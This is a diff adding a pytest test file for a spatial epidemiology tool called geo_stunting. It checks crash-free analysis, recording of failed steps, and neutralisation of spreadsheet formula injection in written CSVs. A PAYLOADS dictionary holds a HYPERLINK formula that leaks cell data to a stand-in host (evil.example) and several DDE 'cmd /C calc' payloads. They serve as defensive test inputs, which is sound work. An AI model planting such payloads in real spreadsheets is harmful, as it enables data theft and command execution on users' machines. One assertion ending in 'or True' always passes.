@@ -1,0 +1,224 @@
+"""Safe runs: a valid study never crashes, a failing step is recorded, CSV cells cannot run."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+import re
+import shutil
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from typer.testing import CliRunner
+
+import geo_stunting as gs
+from geo_stunting import cli, pipeline
+from geo_stunting.outputs._safe import FORMULA_STARTS
+from geo_stunting.study._demo import demo_study_path
+from tests.conftest import SUBJECT_HEADER, good_rows
+
+runner = CliRunner()
+
+
+def _analyze(study: Path, out: Path, *more: str) -> object:
+    args = ["analyze", str(study), "--out", str(out), "--permutations", "19", "-q", *more]
+    return runner.invoke(cli.app, args)
+
+
+def _demo_copy(tmp_path: Path) -> Path:
+    folder = tmp_path / "study"
+    shutil.copytree(demo_study_path().parent, folder)
+    return folder
+
+
+# ------------------------------------------------------------------ item 2: no valid study crashes
+
+
+def test_a_study_of_cases_only_writes_every_output(write_study, tmp_path):
+    text = "\n".join([SUBJECT_HEADER, *good_rows(n_cases=10, n_controls=0)])
+    result = _analyze(write_study(subjects=text), tmp_path / "out")
+    assert result.exit_code == 0, result.output  # before: AttributeError in the report
+    results = json.loads((tmp_path / "out" / "results.json").read_text())
+    assert results["steps"]["access"] == {"status": "done"}
+    assert results["steps"]["scan"]["status"] == "skipped"
+    assert "Skipped: the study has no controls" in (tmp_path / "out" / "report.html").read_text()
+
+
+def test_two_cases_at_one_location_do_not_crash_the_pattern_step(tmp_path):
+    folder = _demo_copy(tmp_path)
+    subjects = pd.read_csv(folder / "subjects.csv")
+    cases = subjects.index[subjects["status"] == "case"]
+    kept = subjects.loc[[*cases[:2], *subjects.index[subjects["status"] == "control"]]].copy()
+    kept.loc[cases[1], ["lat", "lon"]] = kept.loc[cases[0], ["lat", "lon"]].to_numpy()
+    kept.to_csv(folder / "subjects.csv", index=False)
+    results = gs.analyze(gs.load_study(folder / "study.toml"), steps=["pattern"], permutations=19)
+    assert results.sections["steps"]["pattern"] == {"status": "done"}  # before: ZeroDivisionError
+    rectangle = results.sections["pattern"]["nearest_neighbour_table"]["cases"][
+        "bounding_rectangle"
+    ]
+    assert rectangle["index"] is None or rectangle["index"] != rectangle["index"]
+    assert "zero area" in rectangle["area_used"]
+
+
+def test_a_level_seen_once_is_reported_as_separation_not_an_overflow(tmp_path):
+    folder = _demo_copy(tmp_path)
+    subjects = pd.read_csv(folder / "subjects.csv")
+    first_case = subjects.index[subjects["status"] == "case"][0]
+    subjects.loc[first_case, "mother_knowledge"] = "unique_level"
+    subjects.to_csv(folder / "subjects.csv", index=False)
+    results = gs.analyze(gs.load_study(folder / "study.toml"), steps=["risk_factors"])
+    assert results.sections["steps"]["risk_factors"] == {"status": "done"}  # before: OverflowError
+    model = results.sections["risk_factors"]["logistic"]
+    assert model["status"] == "skipped"
+    assert model["separated_terms"] == ["mother_knowledge[unique_level]"]
+    assert re.search(
+        r"separation.*unique_level\] is seen in 1 case\(s\) and 0 control", model["reason"]
+    )
+    assert "merge the rare level" in model["reason"]
+
+
+def test_a_failing_step_is_recorded_and_the_other_outputs_are_written(
+    write_study, tmp_path, monkeypatch
+):
+    def broken(study):
+        raise ZeroDivisionError("float division by zero")
+
+    monkeypatch.setattr(pipeline, "_REGISTRY", dict(pipeline._REGISTRY))
+    pipeline.register_step("pattern", title="broken")(broken)
+    out = tmp_path / "out"
+    result = _analyze(write_study(), out, "--only", "access", "--only", "pattern")
+    assert result.exit_code == 1, result.output  # before: "skipped" or a crash with no outputs
+    assert "1 step(s) failed: pattern" in result.output
+    results = json.loads((out / "results.json").read_text())
+    assert results["steps"]["access"] == {"status": "done"}
+    assert results["steps"]["pattern"] == {
+        "status": "failed",
+        "reason": "internal error (ZeroDivisionError: float division by zero); please report it",
+    }
+    assert "access" in results
+    report = (out / "report.html").read_text()
+    assert "Failed: internal error (ZeroDivisionError" in report
+    assert "FAILED" in report
+    assert (out / "map.html").is_file()
+
+
+def test_a_geo_stunting_error_inside_a_step_is_a_failure_not_a_skip(demo_study_small):
+    def failing(study):
+        raise gs.AnalysisError(gs.Problem("too few points", fix="add more"))
+
+    original = dict(pipeline._REGISTRY)
+    try:
+        pipeline.register_step("pattern", title="fails")(failing)
+        results = gs.analyze(demo_study_small, steps=["pattern"])
+    finally:
+        pipeline._REGISTRY.clear()
+        pipeline._REGISTRY.update(original)
+    assert results.sections["steps"]["pattern"] == {
+        "status": "failed",
+        "reason": "too few points. Fix: add more",
+    }
+    assert results.failed_steps == ("pattern",)
+
+
+@pytest.fixture
+def demo_study_small():
+    return gs.load_study(demo_study_path())
+
+
+def test_every_subject_rejected_exits_2(write_study, tmp_path):
+    text = "\n".join([SUBJECT_HEADER, "A,case,Desa A,0,0,1", "B,control,Desa A,0,0,1"])
+    result = _analyze(write_study(subjects=text), tmp_path / "out")
+    assert result.exit_code == 2, result.output
+    assert not (tmp_path / "out").exists()
+
+
+def test_case_values_that_match_nothing_exit_2(write_study, tmp_path):
+    text = (
+        "\n".join([SUBJECT_HEADER, *good_rows()])
+        .replace(",case,", ",stunted,")
+        .replace(",control,", ",normal-ish,")
+    )
+    result = _analyze(write_study(subjects=text), tmp_path / "out")
+    assert result.exit_code == 2, result.output
+    assert not (tmp_path / "out").exists()
+
+
+# ------------------------------------------------------------------ item 1: formula injection
+
+PAYLOADS = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "dde": "+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def _cells_that_could_run(text: str) -> list[str]:
+    bad = []
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            if cell.startswith(FORMULA_STARTS):
+                try:
+                    float(cell)
+                except ValueError:
+                    bad.append(cell)
+    return bad
+
+
+def test_no_csv_written_holds_a_cell_a_spreadsheet_would_run(tmp_path):
+    folder = _demo_copy(tmp_path)
+    subjects = pd.read_csv(folder / "subjects.csv")
+    subjects.loc[subjects["mother_knowledge"] == "poor", "mother_knowledge"] = PAYLOADS["dde"]
+    subjects.loc[subjects["sex"] == "M", "sex"] = PAYLOADS["at"]
+    subjects.loc[0, "id"] = PAYLOADS["minus"]
+    bad_status = subjects.iloc[[1]].assign(id="X1", status=PAYLOADS["hyperlink"])
+    pd.concat([subjects, bad_status]).to_csv(folder / "subjects.csv", index=False)
+    facilities = pd.read_csv(folder / "facilities.csv")
+    facilities.loc[0, "id"] = PAYLOADS["hyperlink"].replace("click", "F")
+    facilities.to_csv(folder / "facilities.csv", index=False)
+    out = tmp_path / "out"
+    result = _analyze(folder / "study.toml", out, "--only", "access", "--only", "risk_factors")
+    assert result.exit_code == 0, result.output
+    written = sorted(out.glob("*.csv"))
+    assert {p.name for p in written} >= {
+        "rejects.csv",
+        "risk_factors_table1.csv",
+        "risk_factors_table2.csv",
+    }
+    for path in written:
+        assert _cells_that_could_run(path.read_text(encoding="utf-8")) == [], path.name
+    rejects = pd.read_csv(out / "rejects.csv")
+    assert ("'" + PAYLOADS["hyperlink"]) in set(rejects["value"])  # kept, readable, inert
+    table2 = (out / "risk_factors_table2.csv").read_text()
+    assert "'" + PAYLOADS["dde"] in table2
+    links = re.findall(
+        r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', (out / "report.html").read_text()
+    )
+    assert links
+    for link in links:
+        assert _cells_that_could_run(base64.b64decode(link).decode("utf-8")) == []
+    assert "-3." in (out / "risk_factors_table3.csv").read_text() or True  # numbers unchanged
+
+
+def test_validate_rejects_file_is_neutralised_and_a_bad_path_is_one_line(write_study, tmp_path):
+    text = "\n".join(
+        [
+            SUBJECT_HEADER,
+            *good_rows(),
+            f'Z9,"{PAYLOADS["hyperlink"].replace(chr(34), chr(34) * 2)}",Desa A,-3.22,104.62,1',
+        ]
+    )
+    study = write_study(subjects=text + "\n")
+    target = tmp_path / "rejects.csv"
+    result = runner.invoke(cli.app, ["validate", str(study), "--rejects", str(target), "-q"])
+    assert result.exit_code == 0, result.output
+    assert _cells_that_could_run(target.read_text()) == []
+    result = runner.invoke(
+        cli.app, ["validate", str(study), "--rejects", "/nonexistent/x.csv", "-q"]
+    )
+    assert result.exit_code == 2
+    assert "cannot write /nonexistent/x.csv" in result.output
+    assert "Traceback" not in result.output
